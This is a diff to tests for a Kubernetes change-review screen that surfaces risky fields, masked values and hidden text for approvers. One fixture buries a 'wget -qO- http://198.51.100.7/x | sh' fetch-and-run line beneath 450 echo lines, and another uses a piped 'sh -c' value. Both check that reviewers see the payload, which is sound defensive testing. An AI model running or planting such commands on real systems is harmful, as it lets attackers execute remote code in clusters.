@@ -50,44 +50,79 @@ test('every value of an effect is on the screen', () => {
         `Differs at every rendering; shown, not part of what you approve (${effect.generated.length})`,
       )
     }
-    for (const [name, value] of Object.entries(effect.pins)) expect(screen).toContain(`${name}: ${value}`)
+    if (Object.keys(effect.pins).length > 0) expect(screen).toContain('Details')
     const undo = effect.undo as { impossible?: string; tool?: string; args?: object }
     expect(screen).toContain(undo.impossible === undefined ? `Can be undone by ${undo.tool}` : 'Cannot be undone: ')
     for (const value of leaves(undo)) expect(screen).toContain(value)
   }
 })
 
-test('the list elements that a patch by index was written against are named, and no digest stands for them', () => {
+test('what must not be missed stands first, whole and with its place', () => {
   const [object] = effectOf().objects
-  const digest = '4f1c0a9e'.repeat(8)
-  const changed = (paths: string[]) => ({
-    objects: [
-      {
-        ...object,
-        changes: paths.map((path) => ({ path, after: 'x' })),
-        elements: { '/spec/containers/0': { name: 'app' }, '/spec/containers/0/env/1': { name: 'LOG_LEVEL' } },
-      } as never,
-    ],
-    pins: { list_elements: digest, cluster_uid: 'u-7' },
-  })
-  const screen = screenOf({
-    effect: effectOf(changed(['/spec/containers/0/env/1/value', '/spec/containers/0/args/2', '/spec/rules/3/host'])),
-  })
-  for (const text of [
-    'finds list elements by their place. Nothing is written unless the same ones still stand there:',
-    'Deployment shop/web: spec.containers[name=app]',
-    'Deployment shop/web: spec.containers[name=app].env[name=LOG_LEVEL]',
-    'Deployment shop/web: spec.rules[3]',
-    'cluster_uid: u-7',
-  ])
-    expect(screen).toContain(text)
-  expect(screen.match(/Deployment shop\/web: /g)).toHaveLength(3)
-  expect(screen).not.toContain(digest)
-  const many = Array.from({ length: 20 }, (_, index) => `/spec/rules/${index}/host`)
-  expect(screenOf({ effect: effectOf(changed(many)) })).toContain('still stand there (20)')
-  // Another server may mean something else by that name.
-  const other = effectOf({ pins: { list_elements: 'all of them' } })
-  expect(screenOf({ effect: other })).toContain('list_elements: all of them')
+  const script = `#!/bin/sh\n${'echo step\n'.repeat(450)}wget -qO- http://198.51.100.7/x | sh\n`
+  const highlights = [
+    { object: 0, path: '/spec/containers/0/securityContext/privileged', fact: 'privileged' },
+    { object: 0, path: '/data/run.sh', fact: script },
+  ]
+  const objects = [{ ...object, elements: { '/spec/containers/0': { name: 'web' } } }] as never
+  const screen = screenOf({ effect: effectOf({ risk: 'high', reasons: ['it is privileged'], highlights, objects }) })
+  const order = [
+    'scale Deployment',
+    'privileged',
+    'spec.containers[name=web].securityContext.privileged',
+    'data["run.sh"]',
+    'wget -qO- http://198.51.100.7/x | sh',
+    'High risk',
+    'it is privileged',
+  ].map((text) => screen.indexOf(text))
+  expect(order).toEqual(order.toSorted((a, b) => a - b))
+  expect(order).not.toContain(-1)
+  expect(screen.match(/echo step/g)).toHaveLength(450)
+})
+
+test('of several objects each highlight says whose it is', () => {
+  const [object] = effectOf().objects
+  const objects = [object, { ...object, kind: 'Secret', name: 'keys' }] as never
+  const highlights = [{ object: 1, path: '/data', fact: 'reads Secret keys into env' }]
+  expect(screenOf({ effect: effectOf({ objects, highlights }) })).toContain('Secret shop/keys data')
+})
+
+test('a server that does not look is named as one, and nothing is guessed', () => {
+  const sentences = ['does not point out what must not be missed.', 'does not say what it hides.']
+  const [silent, looking] = [screenOf({}), screenOf({ effect: effectOf({ highlights: [], masks: [] }) })]
+  for (const sentence of sentences) {
+    expect(silent).toContain(sentence)
+    expect(looking).not.toContain(sentence)
+  }
+})
+
+test.each([
+  [[{}], '1 text that would be written is hidden.'],
+  [[{ executable: true }, {}], '2 texts that would be written are hidden; 1 of them would run.'],
+  [[{ side: 'before' as const }], '1 text that is in the cluster already is hidden.'],
+])('%j: %s', (masks, said) => {
+  const mask = { object: 0, path: '/data/x', side: 'after' as const, at: 0, bytes: 20, executable: false }
+  expect(screenOf({ effect: effectOf({ masks: masks.map((own) => ({ ...mask, ...own })) }) })).toContain(said)
+})
+
+test('a change of mere order is left out and named', () => {
+  const [object] = effectOf().objects
+  const volumes = [{ name: 'a' }, { name: 'b' }]
+  const changes = [
+    { path: '/spec/volumes', before: volumes, after: volumes.toReversed() },
+    { path: '/spec/replicas', before: 1, after: 2 },
+  ]
+  const screen = screenOf({ effect: effectOf({ objects: [{ ...object, changes } as never] }) })
+  expect(screen).toContain('Only in another order, which means nothing to the API: spec.volumes')
+  expect(screen).not.toContain('order of')
+  const env = [
+    { name: 'A', value: '1' },
+    { name: 'B', value: '$(A)' },
+  ]
+  const steps = [{ path: '/spec/env', before: env, after: env.toReversed() }]
+  expect(screenOf({ effect: effectOf({ objects: [{ ...object, changes: steps } as never] }) })).toContain(
+    'order of spec.env',
+  )
 })
 
 test('policies, votes and demands are on the screen', () => {
@@ -195,11 +230,12 @@ test('missing parts are named as missing, and nothing breaks', () => {
   expect(screenOf({ effect: undefined })).toContain('This server does not tell what the change would do')
 })
 
-test('a secret is masked until somebody asks to see it', () => {
+test('what a name calls a secret is masked where it is there already, and never where it would be written', () => {
   const [object] = effectOf().objects
-  const secret = word()
-  const changes = [{ path: '/data/apiToken', after: secret }]
+  const [before, after] = [word(), `sh -c '${word()} | sh'`]
+  const changes = [{ path: '/data/apiToken', before, after }]
   const screen = screenOf({ effect: effectOf({ objects: [{ ...object, changes } as never] }) })
-  expect(screen).not.toContain(secret)
+  expect(screen).not.toContain(before)
   expect(screen).toContain('Show masked values')
+  expect(screen).toContain(after)
 })
